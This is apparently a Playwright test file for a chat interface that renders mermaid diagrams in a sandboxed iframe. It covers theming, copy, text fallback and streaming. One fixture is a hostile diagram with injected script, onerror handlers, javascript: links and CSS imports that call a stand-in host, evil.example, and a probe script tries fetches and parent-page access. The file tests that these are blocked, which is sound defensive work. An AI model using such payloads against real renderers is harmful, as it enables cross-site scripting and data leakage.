"""Diagrams in answers: drawn in a frame that reaches nothing, or shown as the text that they are."""

import pytest
from playwright.async_api import Browser, FrameLocator, Page, expect

from tests.server.server_process import Served
from tests.web.axe import grave_faults
from tests.web.chatting import answers, begin, ended
from tests.web.profile import new_profile
from tests.web.scripts import hanging, saying

pytestmark = pytest.mark.asyncio(loop_scope="session")

DIAGRAM = """\
flowchart LR
  accTitle: How a turn ends
  A[Question] --> B{Enough?}
  B -->|yes| C[Answer]
  B -->|no| A
"""
HOSTILE = """\
%%{init: {"securityLevel": "loose", "themeCSS": "@import url(http://evil.example/a.css); rect {fill: url(http://evil.example/b)}"}}%%
flowchart LR
  A["<img src=http://evil.example/c onerror='parent.document.title=1; parent.postMessage(1, 1)'>"] --> B
  B["<script>top.document.title = 2; fetch('http://evil.example/d')</script> words"] --> C
  C["<iframe src=http://evil.example/e></iframe>"] --> D[last]
  click A "javascript:top.document.title=3"
  click D "http://evil.example/f" _self
  style B fill:url(http://evil.example/g)
"""


def fenced(source: str) -> str:
    return f"Here it is:\n\n```mermaid\n{source}```\n\nThat is all."


def drawing(page: Page, name: str) -> FrameLocator:
    return answers(page).frame_locator(f"iframe[title='{name}']")


async def test_a_diagram_is_drawn_in_the_theme_and_its_source_is_a_click_away(page: Page, served: Served) -> None:
    await served.play(saying(fenced(DIAGRAM)))
    await begin(page, served, "how does a turn end?")
    await ended(page)
    frame = answers(page).locator("iframe")
    picture = drawing(page, "Flowchart: How a turn ends").locator("svg#diagram")
    await expect(frame).to_be_visible()
    await expect(picture).to_contain_text("Enough?")
    await expect(frame).to_have_attribute("sandbox", "allow-scripts")
    shown, drawn = await frame.bounding_box(), await picture.bounding_box()
    assert shown
    assert drawn
    assert shown["height"] >= drawn["height"] > 30
    label = picture.locator(".nodeLabel").first
    await expect(label).to_have_css("color", "rgb(51, 51, 51)")
    await page.emulate_media(color_scheme="dark")
    await expect(label).to_have_css("color", "rgb(204, 204, 204)")
    source = answers(page).get_by_label("Code, mermaid")
    await expect(source).to_be_hidden()
    await answers(page).get_by_role("button", name="Show source").click()
    await expect(source).to_contain_text("B -->|no| A")
    await expect(frame).to_be_hidden()
    await answers(page).get_by_role("button", name="Show diagram").click()
    await expect(frame).to_be_visible()
    assert await grave_faults(page) == []


async def test_copy_copies_the_source_of_a_diagram(browser: Browser, served: Served) -> None:
    async with new_profile(browser, permissions=["clipboard-read", "clipboard-write"]) as context:
        page = await context.new_page()
        await served.play(saying(fenced(DIAGRAM)))
        await begin(page, served, "copy it")
        await ended(page)
        await expect(answers(page).locator("iframe")).to_be_visible()
        await answers(page).locator("figure").get_by_role("button", name="Copy").click()
        await expect(answers(page).locator("figure").get_by_role("button", name="Copied")).to_be_visible()
        assert await page.evaluate("navigator.clipboard.readText()") == DIAGRAM


@pytest.mark.parametrize("source", ["flowchart LR\n  A --> --> [\n", "mindmap\n  root\n    leaf\n", "no diagram\n"])
async def test_what_can_not_be_drawn_is_shown_as_text(page: Page, served: Served, source: str) -> None:
    await served.play(saying(fenced(source)))
    await begin(page, served, "draw it")
    await ended(page)
    await expect(answers(page).get_by_text("mermaid diagram, as text: it could not be drawn")).to_be_visible()
    await expect(answers(page).get_by_label("Code, mermaid")).to_have_text(source)
    await expect(answers(page).locator("iframe")).to_have_count(0)


async def test_nothing_is_loaded_for_a_diagram_that_is_still_written(page: Page, served: Served) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await served.play(hanging("Look:\n\n```mermaid\nflowchart LR\n  A --> B"))
    await begin(page, served, "write slowly")
    await expect(answers(page).get_by_text("mermaid diagram, drawn when it is complete")).to_be_visible()
    await expect(answers(page).get_by_label("Code, mermaid")).to_contain_text("A --> B")
    assert not [url for url in asked if "/assets/diagram-" in url]
    await page.get_by_role("button", name="Stop").click()
    await ended(page, "Stopped by you")
    await expect(answers(page).locator("iframe")).to_be_visible()
    assert [url for url in asked if "/assets/diagram-" in url]


async def test_a_hostile_diagram_reaches_neither_the_page_nor_the_network(browser: Browser, served: Served) -> None:
    async with new_profile(browser, complaints=True) as context:
        page = await context.new_page()
        asked: list[str] = []
        context.on("request", lambda request: asked.append(request.url))
        await served.play(saying(fenced(HOSTILE)))
        await begin(page, served, "be evil")
        await ended(page)
        frame = answers(page).locator("iframe")
        await expect(frame).to_be_visible()
        picture = drawing(page, "Flowchart").locator("svg#diagram")
        await expect(picture).to_contain_text("last")
        await expect(picture.locator("[href], script, iframe, [onerror]")).to_have_count(0)
        await picture.get_by_text("last").click()
        await expect(picture).to_contain_text("last")
        await expect(page).to_have_title("be evil · Mulligan")
        inside = await (await frame.element_handle()).content_frame()
        assert inside
        reached = await inside.evaluate(REACHING)
        assert reached == {"origin": "null", "parent": False, "fetch": False, "image": False, "script": False}
        # Where it leads itself, the page does not let it go.
        await inside.evaluate("() => { location.href = 'http://evil.example/h'; }")
        await page.wait_for_function("document.querySelector('iframe') !== null")
        await expect(page).to_have_title("be evil · Mulligan")
        assert [url for url in asked if "/assets/diagram-" in url]
        assert [url for url in asked if not url.startswith((served.url, "data:", "blob:", "chrome-error:"))] == []


REACHING = """async () => {
  const can = async (what) => { try { await what(); return true; } catch { return false; } };
  const loaded = (element) => new Promise((yes, no) => {
    element.onload = yes; element.onerror = no; document.body.append(element);
  });
  return {
    origin: self.origin,
    parent: await can(() => parent.document.title),
    fetch: await can(() => fetch('http://evil.example/i', {mode: 'no-cors'})),
    image: await can(() => loaded(Object.assign(new Image(), {src: 'http://evil.example/j'}))),
    script: await can(() => {
      document.body.append(Object.assign(document.createElement('script'), {textContent: 'self.ran = true'}));
      if (!self.ran) throw new Error('no');
    }),
  };
}"""
"""What a script in the frame could do, if one ever ran there: the policy alone stops it."""
